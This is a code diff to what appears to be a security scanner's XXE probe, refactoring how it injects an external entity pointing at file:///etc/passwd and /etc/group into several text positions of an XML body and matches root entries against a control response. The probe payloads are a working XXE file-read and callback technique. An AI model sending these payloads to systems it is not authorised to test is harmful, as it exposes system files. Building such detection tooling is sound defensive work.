@@ -229,12 +229,7 @@ class Xxe(Probe):
             person = scan.person(operation)
             control = scan.control(operation, person)
             scan.tried(self, str(operation))
-            read = []
-            for name, sign in (("/etc/passwd", r"root:[^:\n]*:0:0:"), ("/etc/group", r"root:[^:\n]*:0:")):
-                answer = scan.send(operation, person, body=_document(operation.body, f"file://{name}"))
-                if re.search(sign, answer.text) and not re.search(sign, control[0].text):
-                    read.append(answer)
-            if len(read) == 2:  # noqa: PLR2004  # both files
+            if read := self._files(scan, operation, control[0]):
                 yield self.finding(str(operation), "an entity stands for a file, whose text comes back", *read)
                 continue
             with contextlib.suppress(NotEvaluatedError), listening(scan) as listener:
@@ -246,12 +241,33 @@ class Xxe(Probe):
                 if all(listener.heard(token, 1) for token in tokens):
                     yield self.finding(str(operation), "an entity stands for an address, which is called", *answers)
 
+    FILES = (("/etc/passwd", re.compile(r"root:[^:\n]*:0:0:")), ("/etc/group", re.compile(r"root:[^:\n]*:0:")))
+    MOST_TEXTS = 6
 
-def _document(good: object, source: str) -> bytes:
-    """The operation's good document with an entity in place of its first text."""
+    def _files(self, scan: Scan, operation: Operation, control: Exchange) -> list[Exchange]:
+        """The answers that hold both files, for the first text of the document that brings them: others may be too short."""
+        texts = len(TEXT.findall(str(operation.body or "<a>b</a>")))
+        for place in range(max(1, min(self.MOST_TEXTS, texts))):
+            read = []
+            for name, sign in self.FILES:
+                answer = scan.send(operation, scan.person(operation), body=_document(operation.body, f"file://{name}", place))
+                if sign.search(answer.text) and not sign.search(control.text):
+                    read.append(answer)
+            if len(read) == len(self.FILES):
+                return read
+        return []
+
+
+TEXT = re.compile(r">([^<>]*[^<>\s][^<>]*)<")
+
+
+def _document(good: object, source: str, place: int = 0) -> bytes:
+    """The operation's good document with an entity in place of one of its texts."""
     text = re.sub(r"<\?xml.*?\?>", "", str(good or "<a>b</a>"))
     root = re.search(r"<(\w+)", text)
-    with_entity = re.sub(r">([^<>]+)<", ">&qa;<", text, count=1)
+    texts = list(TEXT.finditer(text))
+    start, end = texts[place].span(1) if texts else (0, 0)
+    with_entity = f"{text[:start]}&qa;{text[end:]}" if texts else text
     return f'<?xml version="1.0"?><!DOCTYPE {root[1] if root else "a"} [<!ENTITY qa SYSTEM "{source}">]>{with_entity}'.encode()
 
 
